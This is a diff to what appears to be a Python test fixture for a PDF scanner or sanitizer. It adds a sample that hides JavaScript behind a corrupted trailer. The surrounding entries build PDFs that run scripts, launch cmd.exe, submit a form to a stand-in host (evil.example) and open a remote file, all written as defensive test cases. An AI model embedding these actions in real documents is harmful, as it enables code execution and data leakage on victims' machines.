@@ -161,6 +161,10 @@ HOSTILE: dict[str, tuple[Made, str]] = {
         "script",
     ),
     "a PDF with a script when its page is seen": (lambda: pdf(page=b"/AA<</O<</S/JavaScript/JS(x)>>>>"), "script"),
+    "a PDF with a script and a broken trailer": (
+        lambda: pdf_that(b"<</S/JavaScript/JS(x)>>").replace(b"/Root 1 0 R", b"/Root 1 0\0\0R R"),
+        "script",
+    ),
     "a PDF that starts a program": (lambda: pdf_that(b"<</S/Launch/F(cmd.exe)>>"), "launch"),
     "a PDF that sends a form": (lambda: pdf_that(b"<</S/SubmitForm/F(http://evil.example)>>"), "launch"),
     "a PDF that opens another": (lambda: pdf_that(rb"<</S/GoToR/F(\\\\evil\\x.pdf)>>"), "launch"),
